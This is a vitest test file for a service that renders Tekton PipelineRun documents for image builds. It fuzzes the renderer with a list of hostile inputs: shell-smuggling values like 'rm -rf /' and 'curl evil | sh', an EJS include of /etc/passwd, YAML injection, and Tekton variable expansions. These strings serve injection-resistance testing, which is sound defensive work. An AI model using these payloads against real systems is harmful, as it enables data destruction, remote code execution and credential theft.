import { readdirSync, readFileSync } from 'node:fs';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { ANNOTATIONS, BUILD_METHODS, LABELS } from '@image-factory/domain';
import type { BuildMethod, Place, RenderContext } from '@image-factory/domain';
import { buildPipelineRun, renderRun } from './build-pipeline-run.js';
import { tektonTextProblem } from './tekton-text.js';
import { renderContext } from './render-context.fixture.js';
import { templateView } from './template-view.js';

const place: Place = { clusterUid: 'c', namespace: 'image-factory-0a1b2c3d', namespaceUid: 'n' };

interface Run {
  metadata: { name: string; labels: Record<string, string>; annotations: Record<string, string> };
  spec: {
    params: { name: string; value: string | string[] }[];
    workspaces: { name: string; secret?: { items: { key: string }[] } }[];
    timeouts: { pipeline: string };
    pipelineSpec: { tasks: { name: string; taskRef: { name: string }; runAfter?: string[]; timeout?: string }[] };
  };
}

function render(context: RenderContext): Run {
  return JSON.parse(buildPipelineRun(context, place).document) as Run;
}

/** The document with every user value and what is derived from it blanked. */
function shape(run: Run): unknown {
  return {
    ...run,
    metadata: { ...run.metadata, annotations: Object.keys(run.metadata.annotations) },
    spec: {
      ...run.spec,
      params: run.spec.params.map(({ name, value }) => ({
        name,
        value: Array.isArray(value) ? value.length : typeof value,
      })),
    },
  };
}

/** What the kubelet makes of an argument that names no variable of the container. */
function afterKubelet(text: string): string {
  return text.replaceAll('$$', '$');
}

const HOSTILE = [
  '"; rm -rf / #',
  "' && curl evil | sh; '",
  '`id`',
  '$(id)',
  '$$(HOME)',
  '${HOME}',
  'a\nb: c',
  'x\r\n- name: evil',
  '--- \n...',
  '{ "a": [1] }',
  '!!js/function "f"',
  '&anchor *alias',
  '# comment',
  '<%= process.env %>',
  '<%- include("/etc/passwd") %>',
  '%>',
  '\u2028\u2029\u0085\ufeff',
  '\ud800',
  '😀',
  '\u0000\u001b[31m',
  'null',
  'true',
  '0x10',
  '',
  ' ',
  '~',
];
const hostile = fc
  .oneof(
    fc.constantFrom(...HOSTILE),
    fc.string({ unit: 'binary', maxLength: 60 }),
    fc.tuple(fc.constantFrom(...HOSTILE), fc.string({ maxLength: 10 })).map(([left, right]) => left + right),
  )
  .filter((text) => tektonTextProblem(text) === undefined);

const hostileContext = fc.record({
  method: fc.constantFrom(...BUILD_METHODS),
  values: fc.array(hostile, { minLength: 10, maxLength: 10 }),
});

function withValues(method: BuildMethod, values: readonly string[]): RenderContext {
  const at = (index: number): string => values[index] ?? '';
  return renderContext({
    buildMethod: method,
    gitRepositoryUrl: at(0),
    gitRevision: at(1),
    imageRepository: at(2),
    storageClass: at(3),
    traceparent: at(4),
    config:
      method === 'packer'
        ? { packer_template: at(5), build_context: at(6), variables: { A: at(7), B: at(8) } }
        : {
            dockerfile_path: at(5),
            build_context: at(6),
            target: at(7),
            build_args: { A: at(8), B: at(9) },
            cache_repo: at(3),
            ...(method === 'buildx' ? { platforms: [at(9)] } : {}),
          },
  });
}

describe('a rendered PipelineRun', () => {
  it.each(BUILD_METHODS)('has the structure of the contract for %s', (method) => {
    expect(render(renderContext({ buildMethod: method }))).toMatchSnapshot();
  });

  const gibibyte = 2 ** 30;
  const resources = { ...renderContext().resources, cpuMillis: 1500, cpuLimitMillis: 1500 };
  const withLimits = (changes: object): unknown =>
    (render(renderContext({ resources: { ...resources, ...changes } })).spec as { taskRunSpecs?: unknown })
      .taskRunSpecs;

  it('gives the build task the figures that have a limit, and no other task any', () => {
    expect(withLimits({})).toEqual([
      { pipelineTaskName: 'build', computeResources: { requests: { cpu: '1500m' }, limits: { cpu: '1500m' } } },
    ]);
    expect(withLimits({ memoryLimitBytes: 8 * gibibyte })).toEqual([
      {
        pipelineTaskName: 'build',
        computeResources: { requests: { cpu: '1500m', memory: '2Gi' }, limits: { cpu: '1500m', memory: '8Gi' } },
      },
    ]);
    expect(withLimits({ ephemeralStorageBytes: 9 * gibibyte, ephemeralStorageLimitBytes: 10 * gibibyte })).toEqual([
      {
        pipelineTaskName: 'build',
        computeResources: {
          requests: { cpu: '1500m', 'ephemeral-storage': '9Gi' },
          limits: { cpu: '1500m', 'ephemeral-storage': '10Gi' },
        },
      },
    ]);
    expect(withLimits({ cpuMillis: 1000, cpuLimitMillis: undefined })).toBeUndefined();
  });

  it('gives each task the limit of the run: without one Tekton ends a task after an hour', () => {
    const { timeouts, pipelineSpec } = render(renderContext({ pipelineTimeoutSeconds: 90_000 })).spec;
    expect(timeouts).toEqual({ pipeline: '90000s' });
    expect(pipelineSpec.tasks.map(({ name, timeout }) => [name, timeout])).toEqual([
      ['clone', '90000s'],
      ['build', '90000s'],
    ]);
  });

  it('requests what an earlier attempt without a limit ran out of, and still limits nothing', () => {
    const more = { memoryBytes: 4 * gibibyte, ephemeralStorageBytes: 8 * gibibyte };
    expect(withLimits({ ...more, cpuMillis: 1000, cpuLimitMillis: undefined })).toEqual([
      { pipelineTaskName: 'build', computeResources: { requests: { memory: '4Gi', 'ephemeral-storage': '8Gi' } } },
    ]);
  });

  it('after a lack of disk on a node has more of it, and prefers any other node without requiring one', () => {
    const resources = {
      ...renderContext().resources,
      ephemeralStorageBytes: 8 * 2 ** 30,
      ephemeralStorageLimitBytes: 8 * 2 ** 30,
    };
    const context = renderContext({ resources, workspaceSize: '2Gi', avoidedNodes: ['node-a', 'node-b.example'] });
    const spec = render(context).spec as unknown as Record<string, unknown[]>;
    const { taskRunTemplate, taskRunSpecs, workspaces } = spec;
    expect({ taskRunTemplate, taskRunSpecs, source: workspaces?.[0] }).toMatchSnapshot();
  });

  it.each(['', 'Node', 'a b', '-a', '$(params.url)', '"], x: ["', 'a'.repeat(254)])(
    'leaves out what is no name of a node: %j',
    (node) => {
      const { spec } = render(renderContext({ avoidedNodes: [node] }));
      expect(spec).toEqual(render(renderContext()).spec);
    },
  );

  it('binds git credentials only when the project has one, each key apart from the registry key', () => {
    const run = render(renderContext({ hasGitCredential: true }));
    expect(run.spec.workspaces.map(({ name }) => name)).toEqual(['source', 'dockerconfig', 'git-credentials']);
    expect(run.spec.workspaces[1]?.secret?.items.map(({ key }) => key)).toEqual(['config.json']);
    expect(run.spec.workspaces[2]?.secret?.items.map(({ key }) => key)).not.toContain('config.json');
  });

  it('is equal byte for byte for equal arguments, and differs in hash for others', () => {
    const first = buildPipelineRun(renderContext(), place);
    expect(buildPipelineRun(renderContext(), place)).toEqual(first);
    expect(buildPipelineRun(renderContext({ gitRevision: 'other' }), place).hash).not.toBe(first.hash);
  });

  it('names the run by installation, build and attempt, and carries them as labels with its own hash', () => {
    const run = render(renderContext({ attempt: 3 }));
    expect(run.metadata.name).toMatch(/^if-[a-z2-7]{20}-3$/);
    expect(run.metadata.labels).toMatchObject({ [LABELS.attempt]: '3', [LABELS.shard]: '5' });
    expect(run.metadata.annotations[ANNOTATIONS.documentHash]).toMatch(/^[0-9a-f]{64}$/);
  });

  it('hands the trace on to Tekton', () => {
    const traceparent = '00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01';
    const run = render(renderContext({ traceparent }));
    expect(JSON.parse(run.metadata.annotations['tekton.dev/pipelinerunSpanContext'] ?? '')).toEqual({ traceparent });
  });

  it('counts the path of the Dockerfile from the context', () => {
    const param = (config: RenderContext['config']): unknown =>
      render(renderContext({ config })).spec.params.find(({ name }) => name === 'dockerfile')?.value;
    expect(param({})).toBe('Dockerfile');
    expect(param({ build_context: './services/api/' })).toBe('services/api/Dockerfile');
    expect(param({ build_context: '.', dockerfile_path: 'build/Dockerfile' })).toBe('build/Dockerfile');
  });

  it('refuses a method that makes an image without a repository, naming the field', () => {
    expect(() => buildPipelineRun(renderContext({ imageRepository: undefined }), place)).toThrow(
      expect.objectContaining({
        reason: 'BuildConfigInvalid',
        issues: [expect.objectContaining({ path: 'build_config.metadata.registry_repo' })],
      }),
    );
  });
});

describe('the templates', () => {
  const directory = new URL('./templates/', import.meta.url);
  const files = readdirSync(directory);

  it('are one for each method', () => {
    expect(files).toEqual(expect.arrayContaining(BUILD_METHODS.map((method) => `${method}.ejs`)));
  });

  it.each(files)('emit no value past the escaping helper: %s', (file) => {
    const raw = readFileSync(new URL(file, directory), 'utf8').match(/<%-[^%]*%>/g) ?? [];
    expect(raw.filter((tag) => !/^<%- include\('[a-z-]+\.ejs'\) -%>$/.test(tag))).toEqual([]);
  });
});

/** What a run is byte for byte, without the annotation that is added to it. */
function withoutHash(run: Run): string {
  const annotations = Object.entries(run.metadata.annotations).filter(([key]) => key !== ANNOTATIONS.documentHash);
  return JSON.stringify({ ...run, metadata: { ...run.metadata, annotations: Object.fromEntries(annotations) } });
}

describe('hostile text', { timeout: 60_000 }, () => {
  it('makes byte for byte the same run by the template as by the shape of an earlier one', () => {
    for (const method of BUILD_METHODS)
      render(
        withValues(
          method,
          Array.from({ length: 10 }, () => 'x'),
        ),
      );
    fc.assert(
      fc.property(hostileContext, ({ method, values }) => {
        const context = withValues(method, values);
        const byTemplate = renderRun(context, templateView(context, place)) as Run;
        expect(withoutHash(render(context))).toBe(withoutHash(byTemplate));
      }),
      { numRuns: 150 },
    );
  });

  it('never changes the structure of a run', () => {
    const shapes = new Map(
      BUILD_METHODS.map((method) => [
        method,
        shape(
          render(
            withValues(
              method,
              Array.from({ length: 10 }, () => 'x'),
            ),
          ),
        ),
      ]),
    );
    fc.assert(
      fc.property(hostileContext, ({ method, values }) => {
        const context = { ...withValues(method, values), storageClass: 'x' };
        expect(shape(render(context))).toEqual(shapes.get(method));
      }),
      { numRuns: 150 },
    );
  });

  it('reaches the steps unchanged after the kubelet has expanded it', () => {
    fc.assert(
      fc.property(hostileContext, ({ method, values }) => {
        const run = render(withValues(method, values));
        const param = (name: string): unknown => run.spec.params.find((one) => one.name === name)?.value;
        expect(afterKubelet(String(param('url')))).toBe(values[0]);
        expect(afterKubelet(String(param('revision')))).toBe(values[1]);
        const pairs = param(method === 'packer' ? 'variables' : 'build-args') as string[];
        expect(pairs.map(afterKubelet)).toContain(`A=${values[method === 'packer' ? 7 : 8] ?? ''}`);
      }),
      { numRuns: 100 },
    );
  });

  it.each([
    '$(params.url)',
    '$(params["url"])',
    "$(params['build-args'][0])",
    '$(context.pipelineRun.uid)',
    '$(workspaces.dockerconfig.path)',
    '$(tasks.clone.results.commit)',
    '$(results.IMAGE_DIGEST.path)',
    '$(credentials.path)',
    '$$(params.url)',
    'prefix$(step.results.x.path)',
  ])('is refused with its path when Tekton would expand it: %s', (text) => {
    for (const method of BUILD_METHODS) {
      const values = Array.from({ length: 10 }, (_, index) => (index === 8 ? text : 'x'));
      expect(() => render(withValues(method, values))).toThrow(
        expect.objectContaining({
          reason: 'BuildConfigInvalid',
          issues: [
            expect.objectContaining({ path: expect.stringMatching(/^build_config\.(build_args|variables)\.[AB]$/) }),
          ],
        }),
      );
    }
  });
});
